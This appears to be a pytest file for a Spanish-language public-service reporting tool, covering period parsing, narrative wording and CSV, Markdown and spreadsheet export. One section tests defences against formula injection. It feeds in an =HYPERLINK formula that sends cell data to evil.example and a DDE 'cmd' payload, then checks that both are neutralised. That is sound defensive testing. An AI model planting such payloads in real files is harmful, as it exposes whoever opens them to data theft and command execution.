"""Periods, weeks and the narrative's Spanish, without a database."""

from datetime import date

import pytest

from handlers.core.texts import load_texts
from handlers.reporting.summary import (
    BadWeek,
    WeeklySummary,
    last_full_week,
    parse_week,
    render_summary,
)
from handlers.reporting.tally import BadPeriod, attention_line, narrative, number, parse_period

t = load_texts()


@pytest.mark.parametrize(
    ("written", "first", "last"),
    [
        ("2026-T1", date(2026, 1, 1), date(2026, 3, 31)),
        ("2026-t3", date(2026, 7, 1), date(2026, 9, 30)),
        ("2026-T4", date(2026, 10, 1), date(2026, 12, 31)),
        ("2026-C1", date(2026, 1, 1), date(2026, 4, 30)),
        ("2026-C2", date(2026, 5, 1), date(2026, 8, 31)),
        ("2026-C3", date(2026, 9, 1), date(2026, 12, 31)),
        ("2026-S1", date(2026, 1, 1), date(2026, 6, 30)),
        ("2026-S2", date(2026, 7, 1), date(2026, 12, 31)),
        ("2026", date(2026, 1, 1), date(2026, 12, 31)),
    ],
)
def test_every_period_form_names_its_dates(written, first, last):
    period = parse_period(t, written, None, None)
    assert (period.first, period.last) == (first, last)


def test_dates_from_and_to_make_a_period_and_anything_else_is_refused_in_one_line():
    period = parse_period(t, None, date(2026, 2, 1), date(2026, 2, 10))
    assert period.label == "2026-02-01/2026-02-10"
    for written, first, last in (
        ("2026-T5", None, None),
        ("2026-C4", None, None),
        ("T3", None, None),
        ("", None, None),
        (None, date(2026, 2, 10), date(2026, 2, 1)),
        ("2026", date(2026, 2, 1), date(2026, 2, 10)),
    ):
        with pytest.raises(BadPeriod) as refused:
            parse_period(t, written, first, last)
        assert "2026-T3" in str(refused.value) and "\n" not in str(refused.value)


def test_weeks_are_iso_weeks_and_the_default_is_the_last_complete_one():
    assert parse_week(t, "2026-W47") == date(2026, 11, 16)
    assert last_full_week(date(2026, 11, 23)) == date(2026, 11, 16)  # a Monday
    assert last_full_week(date(2026, 11, 29)) == date(2026, 11, 16)  # the Sunday after
    with pytest.raises(BadWeek):
        parse_week(t, "2026-W54")


def test_numbers_use_the_institutions_thousands_comma_and_sentences_agree_in_number():
    assert number(8090) == "8,090" and number(95.04, 1) == "95.0"
    assert attention_line(t, "whatsapp", "solicitud", 136) == (
        "136 atenciones de solicitudes por medio de WhatsApp"
    )
    assert attention_line(t, "whatsapp", "denuncia", 21) == (
        "21 atenciones a denuncias recibidas por WhatsApp"
    )
    assert attention_line(t, "telefono", "consulta", 26) == "26 orientaciones telefónicas"
    assert attention_line(t, "telefono", "consulta", 1) == "1 orientación telefónica"
    assert attention_line(t, "presencial", "queja", 1_200) == (
        "1,200 atenciones de quejas en atención presencial"
    )


def large_tally() -> dict:
    return {
        "period": {"label": "2026", "start": "2026-01-01", "end": "2026-12-31", "timezone": "UTC"},
        "channels": ["whatsapp"],
        "received": {"total": 2652, "by_channel_type": {"whatsapp": {"solicitud": 2652}}},
        "attended": {"total": 1478, "by_channel_type": {"whatsapp": {"solicitud": 1478}}},
        "people": {
            "total": 2100,
            "mujer": 1100,
            "hombre": 900,
            "otro": 0,
            "sin_dato": 100,
            "jovenes": 300,
        },
        "by_topic": {"calles_caminos": 2000, "sin_dato": 652},
        "by_municipality": {"San Miguel": 1652, "sin_dato": 1000},
        "deadlines": {
            "closed": 1478,
            "within_deadline": 1200,
            "pct_within_deadline": 81.2,
            "median_first_response_hours": 3.5,
            "median_resolution_days": 2.25,
            "median_first_response_business_hours": 3.5,
            "median_resolution_business_days": 1.5,
        },
        "satisfaction": {"responses": 1000, "mean": 4.25, "resolved_yes": 800},
        "backlog": {"open": 1174, "overdue": 81},
        "narrative": "…",
    }


def test_the_narrative_says_whom_the_youth_and_the_women_visits_are_counted_among():
    figures = large_tally()
    figures["visits"] = {
        "proposed": 5,
        "done": 1,
        "women_priority": 4,
        "cancelled": 0,
        "missed": 0,
        "rescheduled": 0,
    }
    closed = narrative(t, figures)
    # The youth are among all the people, not among those without a gender.
    assert "1,100 mujeres, 900 hombres y 100 personas sin dato de género; " in closed
    assert "300 de ellas son jóvenes." in closed
    # The four affecting women are of the five scheduled, not of the one done.
    assert (
        "Se realizó 1 visita técnica social de 5 programadas "
        "(de ellas, 4 en situaciones que afectan a mujeres)."
    ) in closed
    assert closed.endswith(
        "Al cierre del periodo quedaban 1,174 casos abiertos, 81 de ellos con el plazo vencido."
    )
    # A period not yet ended tells its backlog as of today.
    assert narrative(t, figures, ongoing=True).endswith(
        "A la fecha quedaban 1,174 casos abiertos, 81 de ellos con el plazo vencido."
    )


def test_the_report_tables_name_their_rows_in_spanish_and_write_numbers_as_the_narrative():
    from handlers.reporting.files import render_markdown

    text = render_markdown(t, large_tally())
    assert "| WhatsApp | 2,652 | 0 | 0 | 0 | 0 | 0 | 2,652 |" in text
    assert "| Mujeres | 1,100 |" in text and "| Jóvenes | 300 |" in text
    assert "| calles y caminos | 2,000 |" in text and "| Sin dato | 652 |" in text
    assert "| Casos atendidos | 1,478 |" in text and "| % dentro del plazo | 81.2 |" in text
    assert "| Mediana de resolución (días hábiles) | 1.5 |" in text
    assert "| Casos abiertos al cierre | 1,174 |" in text
    for raw in ("closed", "within_deadline", "resolved_yes", "jovenes", "sin_dato", "overdue"):
        assert f"| {raw} |" not in text


def test_the_csv_has_one_header_and_numbers_a_spreadsheet_reads_as_numbers():
    import csv
    import io

    from handlers.reporting.files import render_csv, render_report

    rows = list(csv.reader(io.StringIO(render_csv(t, large_tally()))))
    assert rows[0] == ["tabla", "fila", "columna", "valor"]
    assert all(len(row) == 4 for row in rows)
    assert rows.count(rows[0]) == 1
    assert ["Plazos", "Casos atendidos", "valor", "1478"] in rows
    assert ["Plazos", "% dentro del plazo", "valor", "81.2"] in rows
    assert ["Recibidos", "WhatsApp", "solicitud", "2652"] in rows
    # A byte-order mark first, so that Excel on Windows reads "Martínez" as written.
    assert render_report(t, large_tally(), "csv", None).startswith("\ufefftabla".encode())


def test_the_spreadsheet_keeps_numbers_as_numbers_with_a_thousands_format():
    import io

    from openpyxl import load_workbook

    from handlers.reporting.files import xlsx_bytes

    book = load_workbook(io.BytesIO(xlsx_bytes(t, large_tally())))
    rows = {row[0].value: row[1] for row in book["Plazos"].iter_rows(min_row=2)}
    assert rows["Casos atendidos"].value == 1478
    assert rows["Casos atendidos"].number_format == "#,##0"
    assert rows["Mediana de resolución (días)"].value == 2.25
    assert rows["Mediana de resolución (días)"].number_format == "#,##0.0"
    # A percentage the spreadsheet shows as one: 81.2 %.
    assert rows["% dentro del plazo"].value == 0.812
    assert rows["% dentro del plazo"].number_format == "0.0%"
    assert all(cell.font.b for cell in book["Plazos"][1])
    assert book["Plazos"].column_dimensions["A"].width > 20
    summary = book["Resumen"]
    assert summary["A3"].alignment.wrap_text and summary["A1"].font.b
    assert len(summary._charts) == 1 and len(book["Recibidos"]._charts) == 0


def test_a_figure_with_nothing_to_compute_reads_sin_dato_in_every_format():
    import io

    from openpyxl import load_workbook

    from handlers.reporting.files import render_csv, render_markdown, xlsx_bytes

    empty = large_tally()
    empty["deadlines"].update(
        closed=0, within_deadline=0, pct_within_deadline=None, median_resolution_days=None
    )
    assert "| % dentro del plazo | Sin dato |" in render_markdown(t, empty)
    assert "Plazos,% dentro del plazo,valor,Sin dato" in render_csv(t, empty)
    book = load_workbook(io.BytesIO(xlsx_bytes(t, empty)))
    rows = {row[0]: row[1] for row in book["Plazos"].iter_rows(min_row=2, values_only=True)}
    assert rows["% dentro del plazo"] == "Sin dato"


def test_the_chart_title_names_the_period_and_the_institution():
    from handlers.reporting.files import chart_title

    tally = {**large_tally(), "institution": "Ministerio de Obras Públicas"}
    assert chart_title(t, tally) == (
        "Casos recibidos por canal y tipo, periodo 2026\nMinisterio de Obras Públicas"
    )


ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"ver")'
PLACES = {
    ATTACK: 3,
    "  +cmd|' /C calc'!A0": 2,
    "\t-2+3": 1,
    "@SUM(A1:A9)": 1,
    "Colonia | Las Brisas\nSan Miguel": 1,
    "San Miguel": 5,
}


def tally_with_typed_places() -> dict:
    return {**large_tally(), "by_municipality": dict(PLACES)}


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+503", "'+503"),
        ("-5", "'-5"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("   =1", "'   =1"),
        ("\n=1", "'\n=1"),
        ("San Miguel", "San Miguel"),
        ("a=b", "a=b"),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_neutralised_and_numbers_stay(value, safe):
    from handlers.core.cells import spreadsheet_safe

    assert spreadsheet_safe(value) == safe


def test_a_markdown_cell_escapes_bars_and_line_breaks():
    from handlers.core.cells import markdown_cell

    assert markdown_cell("a | b\nc\r\nd \\| e") == "a \\| b c d \\\\\\| e"


def test_no_report_format_writes_a_typed_place_as_a_live_formula():
    import csv
    import io

    from openpyxl import load_workbook

    from handlers.reporting.files import render_csv, render_markdown, xlsx_bytes

    book = load_workbook(io.BytesIO(xlsx_bytes(t, tally_with_typed_places())))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'" + ATTACK in texts
    assert all(not v.lstrip().startswith(("=", "+", "-", "@")) for v in texts)
    sheet = book["Municipios"]
    assert {row[0].value: row[1].value for row in sheet.iter_rows(min_row=2)}["San Miguel"] == 5

    rows = list(csv.reader(io.StringIO(render_csv(t, tally_with_typed_places()))))
    cells_csv = [cell for row in rows for cell in row]
    assert "'" + ATTACK in cells_csv
    assert all(not c.lstrip().startswith(("=", "+", "-", "@")) for c in cells_csv)
    assert all(not c.startswith(("\t", "\r")) for c in cells_csv)

    text = render_markdown(t, tally_with_typed_places())
    table = text[text.index("## Municipios") :].split("\n\n")[1].splitlines()
    assert len(table) == 2 + len(PLACES)  # header, rule, one line per place: none broken
    assert all(line.count(" | ") == 1 for line in table[2:])
    assert "| '=HYPERLINK(" in text and "| Colonia \\| Las Brisas San Miguel | 1 |" in text


def test_the_summary_gives_the_year_of_a_commitment_overdue_since_another_year():
    week = WeeklySummary(
        week="2026-W49",
        first=date(2026, 11, 30),
        last=date(2026, 12, 6),
        received={},
        received_before={},
        by_channel={},
        by_channel_before={},
        attended=0,
        still_open=0,
        open_now=0,
        overdue=0,
        oldest_overdue=[],
        agents_overdue=[],
        emergencies=0,
        median_first_response_hours=None,
        satisfaction_responses=0,
        satisfaction_mean=None,
        commitments_overdue=2,
        oldest_commitments=(
            ("TA-2025-000007", 1, "Rosa", date(2025, 12, 31)),
            ("TA-2026-000002", 1, "Rosa", date(2026, 11, 20)),
        ),
    )
    text = render_summary(t, week)
    assert "TA-2025-000007 #1, Rosa, vencía 31/12/2025;" in text
    assert "TA-2026-000002 #1, Rosa, vencía 20/11" in text and "20/11/2026" not in text


def test_a_chart_of_a_period_with_no_cases_counts_from_zero_in_whole_cases():
    from handlers.reporting.files import chart_figure

    axes = chart_figure(load_texts(), "Casos", ["WhatsApp"], {"solicitud": [0]}).axes[0]
    assert axes.get_ylim()[0] == 0  # not from -0.04
    assert all(tick == int(tick) for tick in axes.get_yticks())
    busy = chart_figure(load_texts(), "Casos", ["WhatsApp", "Telegram"], {"queja": [3, 7]})
    assert busy.axes[0].get_ylim()[0] == 0 and busy.axes[0].get_ylim()[1] >= 7  # all shown


def small_tally(visits: dict[str, int], commitments: dict[str, int]) -> dict:
    """A period with one case of each kind: the narrative in the singular."""
    figures = large_tally()
    figures.update(
        received={"total": 1, "by_channel_type": {"telefono": {"solicitud": 1}}},
        attended={
            "total": 3,
            "by_channel_type": {
                "telefono": {"solicitud": 1, "reclamo": 1},
                "whatsapp": {"denuncia": 1},
            },
        },
        visits=visits,
        commitments=commitments,
    )
    return figures


def visits(proposed: int, done: int, **others: int) -> dict[str, int]:
    figures = {"women_priority": 0, "cancelled": 0, "missed": 0, "rescheduled": 0}
    return {"proposed": proposed, "done": done, **figures, **others}


NO_COMMITMENTS = {
    "made": 0,
    "due": 0,
    "met_on_time": 0,
    "met_late": 0,
    "pending": 0,
    "overdue": 0,
    "moved": 0,
}


def test_one_attention_and_one_scheduled_visit_read_as_a_person_would_write_them():
    text = narrative(t, small_tally(visits(1, 0, cancelled=1), NO_COMMITMENTS))
    assert (
        "1 atención de una solicitud por teléfono; 1 atención de un reclamo por teléfono; "
        "1 atención a una denuncia recibida por WhatsApp."
    ) in text
    assert "No se realizó la visita técnica social programada; se canceló." in text
    assert "de 1 programada" not in text

    def visits_sentence(figures: dict[str, int]) -> str:
        text = narrative(t, small_tally(figures, NO_COMMITMENTS))
        return next(s for s in text.split(". ") if "visita" in s)

    assert visits_sentence(visits(3, 0, missed=3)) == (
        "No se realizó ninguna de las 3 visitas técnicas sociales programadas; "
        "3 no pudieron realizarse"
    )
    assert visits_sentence(visits(1, 1, women_priority=1)) == (
        "Se realizó la visita técnica social programada (en una situación que afecta a mujeres)"
    )
    assert visits_sentence(visits(3, 3)) == (
        "Se realizaron las 3 visitas técnicas sociales programadas"
    )
    assert visits_sentence(visits(3, 1, women_priority=2, cancelled=2)) == (
        "Se realizó 1 visita técnica social de 3 programadas "
        "(de ellas, 2 en situaciones que afectan a mujeres); 2 se cancelaron"
    )


def test_the_commitments_sentence_agrees_with_one_commitment_and_leaves_out_zeros():
    one = {
        "made": 1,
        "due": 1,
        "met_on_time": 1,
        "met_late": 0,
        "pending": 0,
        "overdue": 0,
        "moved": 0,
    }
    text = narrative(t, small_tally(visits(0, 0), one))
    assert (
        "Compromisos con la ciudadanía: se adquirió 1, y 1 tenía fecha en el periodo; "
        "se cumplió 1 (a tiempo). Al cierre no quedaban compromisos pendientes."
    ) in text
    several = dict(one, made=3, due=2, met_on_time=1, met_late=1, pending=1, overdue=1, moved=2)
    assert (
        "se adquirieron 3, y 2 tenían fecha en el periodo; se cumplieron 2 "
        "(1 a tiempo y 1 con retraso). Al cierre quedaba 1 pendiente (1 vencido), y 2 de los "
        "adquiridos cambiaron de fecha."
    ) in narrative(t, small_tally(visits(0, 0), several))


def people_sentence(received: int, **people: int) -> str:
    """The narrative's sentence on who filed the cases, for these counts."""
    figures = large_tally()
    figures["received"]["total"] = received
    counts = {"mujer": 0, "hombre": 0, "otro": 0, "sin_dato": 0, "jovenes": 0, **people}
    counts["total"] = sum(counts[gender] for gender in ("mujer", "hombre", "otro", "sin_dato"))
    figures["people"] = counts
    (sentence,) = [s for s in narrative(t, figures).split(". ") if "presentado" in s]
    return sentence.rstrip(".") + "."


ONE_CASE = "El caso recibido fue presentado por"
CASES = "Los casos recibidos fueron presentados por"


@pytest.mark.parametrize(
    ("received", "people", "said"),
    [
        (1, {"mujer": 1, "jovenes": 1}, f"{ONE_CASE} 1 persona, una mujer joven."),
        (1, {"hombre": 1}, f"{ONE_CASE} 1 persona, un hombre."),
        (3, {"mujer": 1}, f"{CASES} 1 persona, una mujer."),
        (2, {"sin_dato": 1, "jovenes": 1}, f"{CASES} 1 persona joven, sin dato de género."),
        (2, {"otro": 1}, f"{CASES} 1 persona de otro género."),
        (
            2,
            {"mujer": 1, "hombre": 1, "jovenes": 1},
            f"{CASES} 2 personas: 1 mujer y 1 hombre; 1 de ellas es joven.",
        ),
        (2, {"mujer": 2, "jovenes": 2}, f"{CASES} 2 personas: 2 mujeres; las dos son jóvenes."),
        (
            5,
            {"mujer": 2, "hombre": 3, "jovenes": 5},
            f"{CASES} 5 personas: 2 mujeres y 3 hombres; todas son jóvenes.",
        ),
    ],
)
def test_the_people_who_filed_the_cases_read_well_for_one_or_two(received, people, said):
    assert people_sentence(received, **people) == said
